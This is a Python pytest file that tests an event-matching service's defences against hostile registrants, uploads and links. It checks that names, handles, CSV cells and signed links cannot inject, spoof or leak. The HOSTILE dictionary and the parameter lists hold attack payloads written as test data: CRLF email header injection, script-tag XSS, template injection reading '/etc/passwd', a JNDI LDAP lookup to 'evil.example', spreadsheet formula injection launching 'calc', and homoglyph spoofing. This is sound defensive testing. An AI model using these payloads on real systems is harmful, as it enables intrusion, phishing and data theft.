"""What somebody who registers, uploads or holds a link can do to others, from the webhook to the mail."""

import csv
import io
import json
import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from email.header import decode_header, make_header
from importlib import import_module
from typing import Any

import boto3
import pytest
from moto.core import DEFAULT_ACCOUNT_ID
from moto.ses.models import ses_backends

from shared import registrations, storage
from shared.attendees import attendee_id_of
from shared.links import Links
from shared.pipeline.manage_event import erase_attendee
from tests.handlers.conftest import EVENT, World, registered
from tests.handlers.pages import UPCOMING, Browser, Seen
from tests.handlers.steps import attendee, bring, letter_to, mails_to, register, report, text_to, wave_goes_out

HOSTILE = {
    "line": "Ann\r\nBcc: victim@example.net\r\n\r\nHello",
    "lines": "Ann\u2028Subject: won\u0085To: x\x0b\x0c",
    "html": '<img src=x onerror="alert(1)"><script>alert(2)</script>',
    "link": "Ann <https://evil.example/login>",
    "template": "{{ 7*7 }}{% include '/etc/passwd' %}${jndi:ldap://evil.example}%s%n",
    "bidi": "Ann\u202egpj.exe\u2066",
    "word": "=?utf-8?q?Ann=0D=0ABcc=3A_victim=40example=2Enet?=",
    "nul": "Ann\x00<b>",
    "long": "A" * 5000,
}


# ---- What stands in names ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", HOSTILE)
def test_no_name_becomes_a_header_markup_or_another_letter_on_its_whole_way_to_the_mail(
    world: World, kind: str
) -> None:
    status, _ = world.post(registered("ann", name=HOSTILE[kind], company=HOSTILE[kind]))
    assert status in (200, 422)
    register(world, "mack", minute=1)
    if status == 422:
        assert wave_goes_out(world) == set()
        return
    bring(world, "ann", "mack")
    bring(world, "mack", "ann")
    assert wave_goes_out(world) == {"ann", "mack"}
    for reader in ("ann", "mack"):
        raw = mails_to(reader)[-1].raw_data
        letter = letter_to(reader)
        assert letter["To"].addresses[0].addr_spec == f"{reader}@example.org"
        assert letter["Bcc"] is None
        assert len(letter.get_all("Subject", [])) == len(letter.get_all("To", [])) == 1
        assert not any(
            ord(c) < 32 or c in "\u2028\u202e\u2066\x85" for c in str(make_header(decode_header(letter["Subject"])))
        )
        assert "\nBcc" not in raw
        assert max(map(len, raw.split("\n"))) <= 998  # RFC 5322
        html = letter.get_body(("html",))
        assert html is not None
        content = str(html.get_content())
        assert "<script" not in content
        assert "<img" not in content
        assert 'href="https://evil.example' not in content
        assert (
            "7*7" in content if kind == "template" and reader == "mack" else "49" not in content.partition("<body")[0]
        )


@pytest.mark.parametrize("name", ["Маck", "Mасk Smith", "M\u0430ck", "Ｍack", "Mack\u200b", "Mäck"])
def test_a_name_that_looks_like_anothers_names_nobody_before_both_say_yes(world: World, name: str) -> None:
    """Ann's address book names Mack. Eve, who spells herself so that she looks like him, is at most asked about."""
    register(world, "ann")
    world.post(registered("eve", name=name, handles={}))
    rows = "First Name,Last Name,URL,Email Address,Company,Position,Connected On\nMack,,,,,,12 Mar 2024\n"
    world.import_upload(world.upload("Connections.csv", rows.encode(), owner="ann@example.org"))
    wave_goes_out(world)
    for reader in ("ann", "eve"):
        for mail in mails_to(reader):
            other = {"ann": name, "eve": "Ann"}[reader]
            assert other not in str(mail.raw_data)


@pytest.mark.parametrize(
    "handle",
    ["linkedin.com/in/m\u0430\u0441k", "linkedin.com@evil.example/in/mack", "linkedin.com.evil.example/in/mack"],
)
def test_a_handle_that_looks_like_anothers_is_another_or_none(world: World, handle: str) -> None:
    register(world, "ann")
    world.post(registered("eve", handles={"linkedin": handle}))
    bring(world, "ann", "mack")
    bring(world, "eve", "ann")
    wave_goes_out(world)
    assert not [mail for mail in mails_to("ann") if "Eve" in str(mail.raw_data)]
    assert "mack" not in {identity.handle for identity in attendee("eve").identities}


# ---- What stands in files ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", ["=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "＝1+1", "\u200b=1"])
def test_no_row_that_is_handed_back_runs_as_a_formula(world: World, cell: str) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["name", "email"], [cell, "nowhere"]])
    key = world.upload("list.csv", buffer.getvalue().encode(), kind="attendees")
    world.import_upload(key)
    body = boto3.client("s3").get_object(Bucket="uploads", Key=report(key).rejects)["Body"].read().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert len(rows) == 2
    for field in rows[1]:
        assert field.lstrip()[:1] not in tuple("=+-@＝") or field.startswith("'")
        assert "\t=" not in field[:2]


# ---- How often --------------------------------------------------------------------------------------------------


def test_one_address_with_many_tickets_is_one_person_and_gets_one_mail(world: World) -> None:
    register(world, "ann")
    for number in range(30):
        world.post(registered("mack", number, reference=f"T-{number}"))
    bring(world, "ann", "mack")
    bring(world, "mack", "ann")
    assert len(list(storage.attendees.load_all(EVENT))) == 2
    assert wave_goes_out(world) == {"ann", "mack"}
    assert len(mails_to("mack")) == 1


def test_one_address_cannot_grow_without_end(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(import_module("shared.attendees.register"), "MOST_TICKETS", 5)
    for number in range(8):
        assert world.post(registered("mack", number, reference=f"T-{number}"))[0] == 200
    mack = attendee("mack")
    assert len(mack.tickets) == 5
    world.post(registered("mack", 30, reference="T-7", kind="registration.cancelled"))
    assert attendee("mack").attending
    world.post(registered("mack", 31, reference="T-1", kind="registration.cancelled"))
    assert dict(attendee("mack").tickets)["icebreaker#T-1"] == "cancelled"


def test_a_recorded_delivery_does_not_bring_back_who_cancelled_or_was_erased(world: World) -> None:
    recorded = registered("ann")
    body = json.dumps(recorded).encode()
    headers = registrations.sign("icebreaker", body, world.secret, delivery_id="msg_1", now=datetime.now(UTC))
    assert world.deliver(body, headers)[0] == 200
    world.post(registered("ann", 5, kind="registration.cancelled"))
    assert world.deliver(body, headers)[0] == 200
    assert not attendee("ann").attending
    world.post(registered("ann", 6))
    erase_attendee(EVENT, "ann@example.org", secrets=world.secrets, now=datetime.now(UTC))
    before = world.items()
    assert world.deliver(body, headers)[0] == 200
    assert world.items() == before


# ---- Who learns who is there ------------------------------------------------------------------------------------


def answers(browser: Browser, *addresses: str) -> list[Seen]:
    return [browser.get(address) for address in addresses]


def test_no_answer_of_the_pages_tells_which_events_attendees_or_links_there_are(world: World) -> None:
    storage.events.update(UPCOMING)
    register(world, "ann", "gone")
    erase_attendee(UPCOMING, "gone@example.org", secrets=world.secrets, now=datetime.now(UTC))
    browser, keys = Browser(world), world.secrets.link_keys()
    last_day = UPCOMING.expires_at.date()

    def page(event_id: str, email: str, signing: Any = keys) -> str:
        attendee_id = attendee_id_of(event_id, email, world.secrets.id_key(UPCOMING))
        return Links("https://api.example", signing, event_id, attendee_id, last_day).page()

    good = page("democon", "ann@example.org")
    assert browser.get(good).status == 200
    bad = answers(
        browser,
        page("democon", "nobody@example.org"),  # signed by us, for nobody
        page("democon", "gone@example.org"),  # was erased
        page("othercon", "ann@example.org"),  # no such event
        page("democon", "ann@example.org", (b"x" * 32,)),  # forged
        good[:-1] + ("A" if good[-1] != "A" else "B"),  # edited
        good[:-5],
        good + "/nothing-here",
        "https://api.example/e/democon/x",
        "https://api.example/e/nosuch/x",
        "https://api.example/e/democon",
        "https://api.example/e/" + "x" * 3000 + "/y",
        "https://api.example/e/democon/" + "x" * 3000,
    )
    first = bad[0]
    for other in bad[1:]:
        assert (other.status, other.headers) == (first.status, first.headers), other.address
        assert other.text == first.text, other.address


def test_the_webhook_says_no_more_of_an_event_that_is_not_there_than_of_one_without_this_platform(
    world: World,
) -> None:
    body = b"{}"
    said = []
    for event_id, platform in (("nosuch", "tito"), ("democon", "tito")):
        status, answer = world.deliver(body, {}, event_id=event_id, platform=platform)
        said.append((status, json.dumps(answer).replace(event_id, "…")))
    assert said[0] == said[1]


def test_a_delivery_is_answered_alike_whether_the_person_is_known_agreed_or_was_erased(world: World) -> None:
    """Whoever can make a platform send knows its own people; it must not learn what they said elsewhere."""
    register(world, "ann", "gone")
    world.post(registered("quiet", agreed=[]))
    erase_attendee(EVENT, "gone@example.org", secrets=world.secrets, now=datetime.now(UTC))
    again = [world.post(registered(name, -60)) for name in ("ann", "quiet", "gone")]
    assert again == [again[0]] * 3


def what_eve_is_told(world: World, *, ann_knows: str, comes: tuple[str, ...]) -> str:
    """Eve claims Mack's handles and brings a made-up export that names Ann; what her mails say."""
    register(world, "ann", *comes)
    bring(world, "ann", ann_knows)
    world.post(registered("eve", 5, handles={"linkedin": "linkedin.com/in/mack", "github": "mack"}))
    bring(world, "eve", "ann", "mack", "zoe")
    wave_goes_out(world)
    return "\n".join(re.sub(r"https://\S+", "", text_to("eve", n)) for n in range(len(mails_to("eve"))))


def emptied(world: World) -> None:
    storage.events.delete(EVENT)
    storage.events.create(EVENT)
    ses_backends[DEFAULT_ACCOUNT_ID]["eu-west-1"].sent_messages.clear()


def test_who_registers_with_anothers_handles_is_told_the_same_whether_they_are_known_or_not(world: World) -> None:
    said = what_eve_is_told(world, ann_knows="mack", comes=("mack",))
    emptied(world)
    assert what_eve_is_told(world, ann_knows="somebody", comes=("mack",)) == said


@pytest.mark.xfail(
    reason="where the one whose handle is claimed does not come, nobody contests it: a made-up export that names Ann "
    "then shows whether Ann's own names that handle, because a tie both ways is told at once; see docs/threat-model.md"
)
def test_who_registers_with_the_handles_of_somebody_absent_learns_nothing_from_a_made_up_export(world: World) -> None:
    said = what_eve_is_told(world, ann_knows="mack", comes=())
    emptied(world)
    assert what_eve_is_told(world, ann_knows="somebody", comes=()) == said


# ---- What a table grows to --------------------------------------------------------------------------------------


def test_a_hostile_registration_stays_small(world: World) -> None:
    """Whatever a platform repeats of what somebody typed, an item stays far from DynamoDB's 400 KB."""
    huge = "x" * 100_000
    status, _ = world.post(registered("ann", name=huge, company=huge, handles={"github": huge}, extra=huge))
    assert status in (200, 422)
    assert all(len(json.dumps(item, default=str)) < 20_000 for item in world.items())


def test_a_dated_registration_of_tomorrow_does_not_lock_out_the_cancellation_of_today(world: World) -> None:
    ahead = registered("ann")
    ahead["timestamp"] = (datetime.now(UTC) + timedelta(days=30)).isoformat()
    world.post(ahead)
    later = registered("ann", kind="registration.cancelled")
    later["timestamp"] = (datetime.now(UTC) + timedelta(seconds=2)).isoformat()
    world.post(later)
    assert not replace(attendee("ann")).attending
